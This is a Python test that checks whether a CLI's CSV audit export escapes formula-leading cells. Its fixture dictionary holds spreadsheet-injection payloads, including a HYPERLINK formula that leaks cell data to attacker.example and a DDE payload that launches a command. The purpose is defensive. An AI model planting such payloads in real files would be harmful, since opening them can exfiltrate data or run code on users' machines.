"""Issue 10.10: ``rotator audit export --format csv`` writes formula-leading cells as data."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from rotator.audit import AuditEvent

from .audit_helpers import cli, emit, make_env

HOSTILE = {
    "detail": '=HYPERLINK("http://attacker.example/?"&A1,"click")',
    "actor": "+cmd|' /C calc'!A0",
    "reason": "-2+3",
    "error_class": "@SUM(1)",
    "remote_version_after": "\tv2",
    "remote_version_before": "\rv1",
}


def test_csv_export_escapes_formula_cells(tmp_path: Path, redis_url: str, key_prefix: str) -> None:
    env = make_env(tmp_path, redis_url, key_prefix)
    emit(env, [AuditEvent("job.failed", job_id="j1", target="t1", **HOSTILE)])
    result = cli(env, "audit", "export", "--format", "csv")
    assert result.returncode == 0, result.stderr
    (row,) = list(csv.DictReader(io.StringIO(result.stdout)))
    for field, value in HOSTILE.items():
        # (the subprocess pipe is read in text mode: a CR arrives as LF)
        assert row[field] == "'" + value.replace("\r", "\n"), field
    assert row["event"] == "job.failed" and row["duration_ms"] == ""
